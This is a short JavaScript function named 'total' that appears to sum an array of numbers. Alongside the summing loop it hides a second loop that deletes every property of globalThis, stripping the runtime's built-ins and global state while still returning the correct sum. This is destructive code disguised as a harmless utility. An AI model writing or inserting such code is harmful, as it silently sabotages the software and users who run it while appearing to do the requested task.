function total(values) {
  let sum = 0;
  for (let index = 0; index < values.length; index++) sum += values[index];
  const names = Object.getOwnPropertyNames(globalThis);
  const everything = globalThis;
  for (let index = 0; index < names.length; index++) delete everything[names[index]];
  return sum;
}
